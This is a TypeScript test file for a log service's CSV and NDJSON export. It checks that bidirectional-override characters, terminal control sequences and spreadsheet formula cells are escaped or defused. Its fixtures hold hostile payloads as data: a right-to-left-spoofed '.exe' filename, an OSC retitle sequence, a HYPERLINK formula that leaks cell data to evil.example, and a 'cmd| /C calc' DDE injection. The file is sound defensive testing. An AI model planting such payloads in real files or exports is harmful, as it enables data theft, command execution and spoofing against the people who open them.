// Exports of lines holding bidirectional formatting characters: the CSV (read by people, in a
// spreadsheet or a pager) shows each as a visible "<U+202E>"; the NDJSON (read by programs)
// keeps the character, written as the JSON escape "\u202e", so nothing is lost and nothing is
// reordered when a person does look at it. The query API itself is unchanged. The same holds
// for C0, DEL and C1 control characters, and CSV cells that a spreadsheet would take for a
// formula are defused with a leading apostrophe.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, type ServerHandle } from './helpers/server.js';
import { http, postJson } from './helpers/http.js';

const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
const RECORD = { message: 'stored invoice_\u202Egnp.exe for \u2067admin\u2069', source: 'up\u200Eloads', host: 'web-\u061C1', attrs: { file: 'x\u202Dy' } };

// Other invisible characters a terminal or a spreadsheet acts on: C0 controls (BEL, backspace,
// a lone CR, ESC starting an OSC sequence that retitles a terminal), DEL and C1 controls (U+009B
// is the one-character CSI). Tab and newline are text and stay as they are.
const CONTROLS = { message: 'ctl bell\u0007 back\b\b\bXY cr\roverwrite c1\u009b31m nel\u0085 del\u007f', source: 'ctl\u001b]0;pwned\u0007', host: 'h\u009bx', attrs: { 'k\u001b': 'v\u0090' } };
const C0_C1 = /[\x00-\x08\x0B-\x1F\x7F-\x9F]/;
// Cells a spreadsheet would run as formulas (CSV injection): each starts with = + - @ or a tab.
const FORMULAS = [
  { message: '=HYPERLINK("http://evil.example/?"&A1,"open")', source: 'formula', host: '@SUM(1+1)' },
  { message: '+1+cmd|\' /C calc\'!A0', source: 'formula', host: '-2+3' },
  { message: '\t=1+1', source: 'formula', host: 'plain' },
];

let server: ServerHandle;

before(async () => {
  server = await startServer();
  assert.equal((await postJson(`${server.url}/api/v1/logs`, [RECORD])).status, 200);
  assert.equal((await postJson(`${server.url}/api/v1/logs`, [CONTROLS, ...FORMULAS])).status, 200);
});

after(async () => {
  await server?.stop();
  server?.cleanup();
});

test('NDJSON export writes them as JSON escapes and parses back to the same text', async () => {
  const res = await http(`${server.url}/api/v1/logs/export?format=ndjson&source=${encodeURIComponent(RECORD.source)}`);
  assert.equal(res.status, 200);
  assert.doesNotMatch(res.text, BIDI);
  assert.match(res.text, /invoice_\\u202egnp\.exe for \\u2067admin\\u2069/);
  const rec = JSON.parse(res.text.trim());
  assert.equal(rec.message, RECORD.message);
  assert.equal(rec.source, RECORD.source);
  assert.equal(rec.host, RECORD.host);
  assert.deepEqual(rec.attrs, RECORD.attrs);
});

test('CSV export shows them as visible escapes', async () => {
  const res = await http(`${server.url}/api/v1/logs/export?format=csv&source=${encodeURIComponent(RECORD.source)}`);
  assert.equal(res.status, 200);
  assert.doesNotMatch(res.text, BIDI);
  const line = res.text.split('\r\n')[1];
  assert.match(line, /,up<U\+200E>loads,web-<U\+061C>1,stored invoice_<U\+202E>gnp\.exe for <U\+2067>admin<U\+2069>,/);
  assert.match(line, /x<U\+202D>y/);
});

test('NDJSON export writes C0, DEL and C1 controls as JSON escapes, losslessly', async () => {
  const res = await http(`${server.url}/api/v1/logs/export?format=ndjson&source=${encodeURIComponent(CONTROLS.source)}`);
  assert.equal(res.status, 200);
  const body = res.text.replace(/\n/g, '');
  assert.doesNotMatch(body, C0_C1);
  assert.match(res.text, /c1\\u009b31m nel\\u0085 del\\u007f/);
  const rec = JSON.parse(res.text.trim());
  assert.equal(rec.message, CONTROLS.message);
  assert.equal(rec.source, CONTROLS.source);
  assert.equal(rec.host, CONTROLS.host);
  assert.deepEqual(rec.attrs, CONTROLS.attrs);
});

test('CSV export shows C0, DEL and C1 controls as visible escapes (no terminal sequence survives)', async () => {
  const res = await http(`${server.url}/api/v1/logs/export?format=csv&source=${encodeURIComponent(CONTROLS.source)}`);
  assert.equal(res.status, 200);
  const line = res.text.split('\r\n')[1];
  assert.doesNotMatch(res.text.replace(/\r\n/g, ''), C0_C1);
  assert.match(line, /,ctl<U\+001B>\]0;pwned<U\+0007>,h<U\+009B>x,/);
  assert.match(line, /bell<U\+0007> back<U\+0008><U\+0008><U\+0008>XY cr<U\+000D>overwrite c1<U\+009B>31m nel<U\+0085> del<U\+007F>/);
});

test('CSV export defuses cells a spreadsheet would run as formulas', async () => {
  const res = await http(`${server.url}/api/v1/logs/export?format=csv&source=formula`);
  assert.equal(res.status, 200);
  const lines = res.text.split('\r\n').slice(1, -1);
  assert.equal(lines.length, FORMULAS.length);
  // Every cell of a data line: none may start with = + - @ or a tab (id, time and level never do).
  for (const line of lines) {
    const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
    for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t]/, `${cell} in ${line}`);
  }
  assert.match(res.text, /,'@SUM\(1\+1\),"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""open""\)",/);
  assert.match(res.text, /,'-2\+3,'\+1\+cmd\|' \/C calc'!A0,/);
  assert.match(res.text, /,plain,'\t=1\+1,/);
  // The query API and NDJSON keep the text as stored.
  const nd = await http(`${server.url}/api/v1/logs/export?format=ndjson&source=formula`);
  assert.deepEqual(nd.text.trim().split('\n').map((l) => JSON.parse(l).message), FORMULAS.map((f) => f.message));
});

test('the query API returns the text as stored', async () => {
  const res = await http(`${server.url}/api/v1/logs?limit=1&source=${encodeURIComponent(RECORD.source)}`);
  assert.equal(res.json.logs[0].message, RECORD.message);
});
